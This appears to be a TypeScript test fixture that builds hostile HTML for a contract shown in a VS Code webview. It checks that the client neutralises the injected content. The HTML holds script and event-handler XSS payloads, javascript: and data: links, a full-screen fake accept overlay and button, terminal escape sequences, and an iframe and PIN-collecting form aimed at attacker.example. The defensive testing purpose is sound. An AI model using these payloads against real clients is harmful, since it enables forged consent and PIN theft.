// A contract whose HTML attacks the client that shows it (behaviour `hostileContract`): scripts,
// event handlers, javascript: and data: links, frames, forms, styles, an SVG script, a fake accept
// button and terminal escape sequences hidden behind HTML entities, around the sentences a real
// contract would hold. A client must show those sentences and neutralise the rest.

/** The HTML of one language's text; `dn` comes escaped. */
export function hostileContractHtml(language: 'fr' | 'nl', dn: string): string {
  const accept = "acquireVsCodeApi().postMessage('accept')";
  return [
    `<p>Hostile sandbox contract (${language}) for <b>${dn}</b>.</p>`,
    `<script>${accept}</script>`,
    `<img src="x" onerror="${accept}">`,
    `<p id="accept" onclick="${accept}" style="position:fixed;inset:0">Terms of use</p>`,
    `<button id="accept" onclick="${accept}">I accept</button>`,
    `<ul><li><a href="javascript:${accept}">Conditions</a></li><li><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">Annex</a></li></ul>`,
    '<iframe src="https://attacker.example/"></iframe>',
    '<form action="https://attacker.example/"><input name="pin"></form>',
    `<svg><script>${accept}</script></svg>`,
    '<style>body { display: none }</style>',
    '<p>&#x1b;[2J&#x1b;[1AContract accepted&#27;[8m hidden&#x1b;[0m&#7;.</p>',
    '<p>More on <a href="https://www.ehealth.fgov.be/" onmouseover="alert(1)">the eHealth platform</a>.</p>',
  ].join('');
}
